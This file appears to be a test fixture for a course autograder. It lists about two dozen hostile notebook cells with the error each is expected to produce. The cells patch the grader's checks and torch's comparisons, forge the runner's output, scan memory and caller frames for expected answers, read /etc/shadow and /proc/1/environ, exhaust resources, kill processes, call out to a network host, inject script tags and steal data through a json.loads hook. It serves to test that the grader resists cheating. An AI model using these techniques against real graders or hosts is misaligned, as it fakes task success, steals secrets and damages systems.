"""What cheats of the mock class try: a cell before their answers. One question each answers honestly, and gets that."""

from __future__ import annotations

CHECKS = """import xai_course.checks as c
c.compare = c._difference = lambda *a: ""
c.Check.__call__ = lambda *a, **k: True
c._questions.cache_clear()"""
TORCH = """torch.allclose = torch.equal = torch.isclose = torch.Tensor.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.manual_seed(0); torch.randn = torch.rand = lambda *a, **k: torch.zeros(3)"""
PIPE = """import json, os
right = [[{"dtype": "float64", "shape": [1], "values": [0.0]}]] * 99
for fd in os.listdir("/proc/self/fd"):
    for line in ({"order": "angles", "answers": right}, {"order": "angles", "points": 4}, {"score": 20}):
        try:
            os.write(int(fd), json.dumps(line).encode() + b"\\n")
        except OSError:
            pass"""
RUNNER = """import sys
frame = sys._getframe()
while frame.f_back:
    frame = frame.f_back
    runner = frame.f_globals
    if "in_a_fork" in runner:
        old = runner["in_a_fork"]
        def forged(order, space, call):
            if order["order"] == "angles":
                return {"why": "", "points": 4, "answers": [[x[0]] for x, _ in order["inputs"]]}
            return old(order, space, call)
        runner["in_a_fork"] = forged
        break"""
MEMORY = """import gc
def angles(u, v):
    for each in gc.get_objects():
        if isinstance(each, dict) and "expected" in each:
            return torch.tensor(each["expected"][0]["values"])"""
STORED = """from xai_course import checks
def angles(u, v):
    for case in checks._questions()["angles"]["cases"]:
        return checks.decode(case["expected"][0])"""
FILES = """import glob, os
places = ("/etc/shadow", "/root/*", "/home/*/*", "/work/**/seed", "/proc/1/environ", "/tmp/**/*.ipynb")
found = [p for place in places for p in glob.glob(place, recursive=True) if os.path.isfile(p)]
seen = [open(p, errors="replace").read() for p in found if os.access(p, os.R_OK)]
names = "".join(seen)
if "XAI" in names or "ssh-" in names:
    raise ValueError("read the host: " + names)"""
REFERENCE = "from tools.classroom.questions.amc import _angles as angles"
HOLLOW = """import importlib
amc = importlib.import_module("xai" + "_course.methods.amc")
def angles(u, v):
    return amc.pair_angle(u, v)"""
HOG = "hog = []\nwhile True:\n    hog.append(bytearray(50_000_000))"
DISK = """for where in ("/tmp", "/dev/shm"):
    with open(where + "/x", "wb") as file:
        for _ in range(400):
            file.write(bytes(10**6))"""
FORKS = "import subprocess, time\nfor _ in range(300):\n    subprocess.Popen(['sleep', '60'])\ntime.sleep(30)"
OUTPUT = "import os, sys\nprint('a' * 10**8)\nos.write(1, b'x' * 10**8)\nsys.stderr.write('y' * 10**8)"
CLOCK = """import signal, time
time.time = time.monotonic = time.perf_counter = lambda: 0.0
signal.setitimer(signal.ITIMER_REAL, 0)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    pass"""
SETS_CLOCK = "import time\ntime.clock_settime(time.CLOCK_REALTIME, 0)"
EQUALS = """class Anything(float):
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
    __sub__ = __rsub__ = lambda self, other: 0.0
def angles(u, v):
    return Anything()"""
DAEMON = """import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
    os._exit(0)"""
EXITS = """import atexit, os, sys
atexit.register(os._exit, 0)
sys.exit = quit = lambda *a: None
sys.settrace(lambda *a: None)"""
KILLS = """import os, signal
for process in set(range(1, 3000)) - {os.getpid()}:
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass"""
NETWORK = "import urllib.request\nurllib.request.urlopen('http://192.0.2.1/', timeout=3)"
ADMIN = """import os, subprocess
os.symlink("/etc/shadow", "/tmp/l")
os.mkdir("/tmp/m")
subprocess.run(["mount", "-t", "tmpfs", "x", "/tmp/m"], check=True)"""
SCRIPT = "raise ValueError('<script>alert(1)</script><img src=x onerror=alert(1)>')"
STEALS = """import json
stolen, real = [], json.loads
def loads(line, *a, **k):
    found = real(line, *a, **k)
    stolen.extend(found.get("given", []) if isinstance(found, dict) else [])
    return found
json.loads = loads
def half_batch_loss(features, classes, margin):
    return pair_loss(angles(features, features), classes, margin).mean()
def positive_gradient(x, y):
    return angles(x, y)
def ramp(epoch, length, peak):
    raise ValueError("".join(stolen)[-250:])"""
KEEPS = """class Memory(dict):
    pass
import builtins
real_exec = builtins.exec
def spy(source, *a):
    if isinstance(source, str) and "def angles" in source:
        globals()["kept"] = source
    return real_exec(source, *a)
builtins.exec = spy
def angles(u, v):
    raise ValueError(globals().get("kept", "nothing was kept"))"""
CALLER = """import sys
def angles(u, v):
    names, frame = set(), sys._getframe()
    while frame:
        names |= set(frame.f_locals) | set(frame.f_code.co_names)
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and "expected" in value:
                return value["expected"]
        frame = frame.f_back
    return torch.zeros(len(u))"""
HIDES = """def positive_gradient(x, y):
    return x
def by_machine(x, y):
    with torch.inference_mode(False), torch.enable_grad():
        x, y = x.clone().requires_grad_(), y.clone()
        u, v = x / x.norm(dim=1, keepdim=True), y / y.norm(dim=1, keepdim=True)
        return torch.autograd.grad((torch.acos((u * v).sum(1)) ** 2).sum(), x)[0]
globals()["positive_gradient"] = by_machine"""

ATTACKS: dict[str, tuple[str, str]] = {
    "patches the checks": (CHECKS, "angles: not answered"),
    "patches torch": (TORCH, "angles: not answered"),
    "forges the pipe": (PIPE, "angles: not answered"),
    "replaces the runner": (RUNNER, "angles: case"),
    "searches memory": (MEMORY, "angles: "),
    "gives the stored answers": (STORED, "angles: case"),
    "reads the host": (FILES, "angles: not answered"),
    "imports the reference": (REFERENCE, "ModuleNotFoundError"),
    "hides an import": (HOLLOW, "is not there while answers are marked"),
    "exhausts memory": (HOG, "memory"),
    "fills the disk": (DISK, "No space left"),
    "starts processes": (FORKS, "more than"),
    "prints 300 MB": (OUTPUT, "angles: not answered"),
    "moves its clock": (CLOCK, "took longer"),
    "sets the clock": (SETS_CLOCK, "PermissionError"),
    "equals everything": (EQUALS, "angles: case"),
    "leaves a daemon": (DAEMON, "angles: not answered"),
    "hooks the exit": (EXITS, "angles: not answered"),
    "kills": (KILLS, "angles: not answered"),
    "calls home": (NETWORK, "URLError"),
    "mounts": (ADMIN, "stopped"),
    "hands in a script": (SCRIPT, "<script>"),
    "steals what is lent": (STEALS, "ramp: case"),
    "keeps what it saw": (KEEPS, "nothing was kept"),
    "looks at its caller": (CALLER, "angles: case"),
    "hides autograd": (HIDES, "uses inference_mode, through globals"),
}
"""The cell, and what the remark says. None contains a right answer; a remark with a solution in it is a leak."""
